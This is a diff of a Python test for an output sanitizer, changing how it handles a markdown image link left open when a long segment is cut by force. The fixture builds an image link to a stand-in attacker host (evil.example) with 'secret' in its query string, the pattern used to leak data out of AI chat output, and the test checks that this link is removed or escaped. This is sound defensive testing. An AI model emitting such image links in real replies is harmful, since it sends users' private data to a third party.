@@ -475,15 +475,18 @@ def test_open_destination_holds_the_segment_cut_until_it_closes() -> None:
 
 
 def test_destination_open_at_a_forced_cut_cannot_form_a_link_later() -> None:
-    # The segment ends (forced cut) with the destination open; the next segment closes it.
-    # The first segment's "(" is escaped, so the joined output renders as text, not an image.
+    # The segment is cut by force (no whitespace for 512 characters), before the URL so its
+    # host is judged whole: the next segment, read after the released text, completes the
+    # image, which is removed.
     s = OutputSanitizer(max_segment=512)
     text = "a" * 300 + "![x](https://evil.example/?q=" + "b" * 300 + "secret) tail"
     r = s.sanitize(text)
-    assert "](https://evil" not in r.text
-    assert r.text == text.replace("](", "]\\(")
-    assert [(f.kind, f.detail) for f in r.findings] == [("markdown_image", "unterminated")]
-    assert r.findings[0].start == text.index("](")
+    assert "evil" not in r.text and "secret" not in r.text and r.text.endswith(" tail")
+    assert unsafe_reasons(r.text) == []
+    # With a space to cut at, the open destination's "(" is escaped at the cut instead.
+    text = "a" * 300 + " ![x](https://evil.example/?q=" + "b c " * 75 + "secret) tail"
+    r = s.sanitize(text)
+    assert unsafe_reasons(r.text) == []
 
 
 def test_unterminated_destination_longer_than_the_cap_is_text() -> None:
